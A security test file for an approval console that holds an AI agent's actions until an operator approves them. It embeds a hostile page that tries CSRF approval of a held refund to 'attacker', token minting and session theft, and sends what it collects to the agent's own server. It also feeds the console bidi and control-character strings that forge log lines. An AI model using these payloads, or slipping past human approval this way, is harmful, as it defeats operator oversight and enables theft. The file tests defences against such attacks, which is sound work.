// The console against a hostile agent on the same host, in headless Chromium (issue 11):
// * a page the agent serves on another local port, opened by the logged-in operator, gets
//   nothing it can use to act on estop (finding 2);
// * agent-supplied text with bidi, zero-width and control characters shows escaped (deliver 6).
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { startDaemon, connect, launch, repo } from "../lib/estop.mjs";

const artifacts = join(repo, "console-tests", "artifacts");
mkdirSync(artifacts, { recursive: true });

let d, agent, browser, closeBrowser;

before(async () => {
  d = await startDaemon();
  agent = await connect(d.socket, d.agentToken);
  ({ browser, close: closeBrowser } = await launch());
});

after(async () => {
  agent?.close();
  await closeBrowser?.();
  await d?.stop();
});

/** A logged-in console page in `context`, from a fresh one-time link. */
async function logIn(context) {
  const page = await context.newPage();
  const r = await fetch(d.base + "/api/v1/login-links", { method: "POST", headers: { Authorization: "Bearer " + d.operatorToken } });
  const { url } = await r.json();
  await page.goto(url);
  await page.waitForURL(d.base + "/");
  await page.waitForSelector("#live.on");
  return page;
}

// What the agent's page does: everything a page of another origin can try against the console,
// all of it reported to its own server.
const EVIL_PAGE = (consoleBase) => `<!doctype html><meta charset=utf-8><title>totally harmless</title>
<body><iframe name=sink></iframe><script>
const C = ${JSON.stringify(consoleBase)};
const got = { cookie: document.cookie, session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage), tries: [] };
async function attempt(name, f) {
  try { got.tries.push({ name, result: await f() }); } catch (e) { got.tries.push({ name, error: String(e) }); }
}
(async () => {
  await attempt("read session", async () => { const r = await fetch(C + "/api/v1/session", { credentials: "include" }); return r.status + " " + await r.text(); });
  await attempt("read session no-cors", async () => { const r = await fetch(C + "/api/v1/session", { credentials: "include", mode: "no-cors" }); return r.type + " " + await r.text(); });
  await attempt("mint token", async () => { const r = await fetch(C + "/api/v1/tokens", { method: "POST", credentials: "include", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: '{"name":"evil","role":"operator"}' }); return r.type; });
  await attempt("approve", async () => { const r = await fetch(C + "/api/v1/runs/hostile-run/effects/wire-1/approve", { method: "POST", credentials: "include", mode: "no-cors", body: "{}" }); return r.type; });
  await attempt("approve with headers", async () => { const r = await fetch(C + "/api/v1/runs/hostile-run/effects/wire-1/approve", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json", "X-Estop-Session": "guess" }, body: "{}" }); return r.status; });
  await attempt("login link", async () => { const r = await fetch(C + "/api/v1/login-links", { method: "POST", credentials: "include", mode: "no-cors" }); return r.type; });
  await attempt("open console", async () => { const w = window.open(C + "/"); await new Promise((r) => setTimeout(r, 1500)); try { return JSON.stringify(w.sessionStorage); } finally { w && w.close(); } });
  await attempt("form post", async () => {
    const f = document.createElement("form");
    f.method = "POST"; f.action = C + "/api/v1/runs/hostile-run/effects/wire-1/approve"; f.enctype = "text/plain"; f.target = "sink";
    const i = document.createElement("input"); i.name = '{"reason":"x","pad":"'; i.value = '"}'; f.append(i);
    document.body.append(f); f.submit();
    await new Promise((r) => setTimeout(r, 1000));
    try { return frames.sink.document.body.innerText; } catch (e) { return "unreadable: " + e; }
  });
  await fetch("/report", { method: "POST", body: JSON.stringify(got) });
})();
</script>`;

/** The agent's web server on another port of the same host: serves the page, logs every
 * request (headers included: cookies of 127.0.0.1 reach every port) and collects the report. */
async function evilServer(consoleBase) {
  const seen = [];
  let report;
  const reported = new Promise((res) => { report = res; });
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => { body += c; });
    req.on("end", () => {
      seen.push({ url: req.url, headers: req.headers, body });
      if (req.url === "/report") { report(JSON.parse(body)); res.end("ok"); return; }
      res.setHeader("Content-Type", "text/html; charset=utf-8");
      res.end(EVIL_PAGE(consoleBase));
    });
  });
  await new Promise((res) => server.listen(0, "127.0.0.1", res));
  return { base: `http://127.0.0.1:${server.address().port}`, seen, reported, close: () => server.close() };
}

/** Every string of 16+ word characters in `x`: whatever might be a secret. */
function candidates(x) {
  const out = new Set();
  for (const m of JSON.stringify(x).matchAll(/[A-Za-z0-9_\-]{16,}/g)) out.add(m[0]);
  return [...out];
}

test("a page on another local port gets nothing that acts on estop", async () => {
  const held = await agent.call({ op: "admit", run: "hostile-run", key: "wire-1", tool: "refund", args: { to: "attacker", amount: 1e6 } });
  assert.equal(held.verdict, "held");
  const context = await browser.newContext();
  const consolePage = await logIn(context);
  const evil = await evilServer(d.base);
  try {
    await tryEverything(context, consolePage, evil);
  } finally {
    evil.close();
    await context.close();
  }
});

async function tryEverything(context, consolePage, evil) {
  const page = await context.newPage();
  await page.goto(evil.base + "/");
  const got = await evil.reported;
  // Replayed outside the browser (curl: no Origin), everything the agent collected is no
  // credential: neither as a cookie, a session, a bearer token, nor a login code.
  const loot = candidates({ got, seen: evil.seen.map((r) => r.headers) });
  const port = new URL(d.base).port;
  for (const secret of loot) {
    const attempts = [
      { Cookie: `estop_session_${port}=${secret}` },
      { Cookie: `estop_session=${secret}` },
      { "X-Estop-Session": secret },
      { "X-Estop-Session": secret, Origin: evil.base },
      { Authorization: "Bearer " + secret },
    ];
    for (const headers of attempts) {
      const who = await fetch(d.base + "/api/v1/session", { headers });
      const csrf = who.ok ? (await who.json()).csrf || "" : "";
      const h = { ...headers, "X-CSRF-Token": csrf, "Content-Type": "application/json" };
      const mint = await fetch(d.base + "/api/v1/tokens", { method: "POST", headers: h, body: JSON.stringify({ name: "stolen", role: "operator" }) });
      assert.ok(!mint.ok, `minted a token with ${JSON.stringify(headers)}`);
      const approve = await fetch(d.base + "/api/v1/runs/hostile-run/effects/wire-1/approve", { method: "POST", headers: h, body: "{}" });
      assert.ok(!approve.ok, `approved with ${JSON.stringify(headers)}`);
    }
    for (const body of [{ code: secret }, { token: secret }]) {
      const r = await fetch(d.base + "/api/v1/session", { method: "POST", headers: { "Content-Type": "application/json", Origin: d.base }, body: JSON.stringify(body) });
      assert.ok(!r.ok, "logged in with " + JSON.stringify(body));
    }
  }
  // Nothing of the console's session reached the other origin.
  assert.equal(got.cookie, "", "no cookie readable there");
  for (const r of evil.seen) assert.equal(r.headers.cookie, undefined, `a cookie reached ${r.url}: ${r.headers.cookie}`);
  const read = got.tries.find((t) => t.name === "read session");
  assert.ok(read.error, "a cross-origin read fails: " + JSON.stringify(read));
  const headed = got.tries.find((t) => t.name === "approve with headers");
  assert.ok(headed.error, "a request with the session header is stopped by the browser: " + JSON.stringify(headed));
  assert.match(got.tries.find((t) => t.name === "open console").error || "", /SecurityError|cross-origin|Blocked|null/i, JSON.stringify(got.tries));

  // The effect is still held, nobody approved it; the operator's page still works.
  const pending = await (await fetch(d.base + "/api/v1/pending", { headers: { Authorization: "Bearer " + d.operatorToken } })).json();
  const it = pending.pending.find((p) => p.run === "hostile-run");
  assert.ok(it, "still held");
  assert.deepEqual(it.approvals, []);
  await consolePage.bringToFront();
  await consolePage.reload();
  await consolePage.waitForSelector(`article.card[data-run="hostile-run"]`);
}

test("agent-supplied bidi, zero-width and control characters show as visible escapes", async () => {
  // Ids with such characters are refused at the edge (docs/PROTOCOL.md); free text is kept as
  // sent and must be shown escaped.
  const hidden = await agent.call({ op: "admit", run: "esc\u202Erun", key: "k\u200By", tool: "refund", args: {} });
  assert.equal(hidden.ok, false, JSON.stringify(hidden));
  assert.equal(hidden.error.code, "invalid_field", JSON.stringify(hidden));
  const run = "esc-run";
  const key = "k-y";
  const held = await agent.call({ op: "admit", run, key, tool: "refund", args: { note: "line1\n\u001b[31mRED\u202Edone", to: "k\u200By" }, labels: { team: "a\u2066b" } });
  assert.equal(held.verdict, "held", JSON.stringify(held));
  const stop = "stop\u202E\n\u001b[31mFAKE decide principal=admin";
  await agent.call({ op: "admit", run: "esc-stopped", key: "k", tool: "send_email", args: {} });
  const cancelled = await agent.call({ op: "cancel", run: "esc-stopped", reason: stop });
  assert.equal(cancelled.ok, true, JSON.stringify(cancelled));
  const context = await browser.newContext();
  const page = await logIn(context);
  const card = page.locator("article.card").filter({ has: page.locator(".esc") }).first();
  await card.waitFor();
  const text = await card.textContent();
  for (const c of ["\u202E", "\u200B", "\u001b"]) assert.ok(!text.includes(c), `a raw ${JSON.stringify(c)} in the inbox: ${JSON.stringify(text)}`);
  const args = await card.locator("pre.args").textContent();
  assert.match(args, /line1\\n\\u001b\[31mRED\\u\{202e\}done/);
  assert.match(args, /k\\u\{200b\}y/);
  const titles = await card.locator(".esc").evaluateAll((els) => els.map((e) => e.getAttribute("title")));
  assert.ok(titles.includes("U+202E") && titles.includes("U+200B"), JSON.stringify(titles));
  await card.screenshot({ path: join(artifacts, "console-escapes.png") });

  // The runs list and the stopped run's page: labels and the agent's stop reason.
  await page.goto(d.base + "/#/runs");
  await page.waitForSelector("#runs-table tbody tr");
  assert.match(await page.textContent("#runs-table"), /a\\u\{2066\}b/);
  await page.goto(d.base + "/#/runs/esc-stopped");
  await page.waitForSelector("ol.timeline li.k-cancel");
  const facts = await page.textContent("dl.facts");
  assert.ok(!facts.includes("\u202E") && !facts.includes("\n\u001b"), JSON.stringify(facts));
  assert.match(facts, /stop\\u\{202e\}\\n\\u\{1b\}\[31mFAKE/);
  assert.match(await page.textContent("ol.timeline"), /reason=stop\\u\{202e\}\\n\\u\{1b\}\[31mFAKE/);
  await context.close();
});
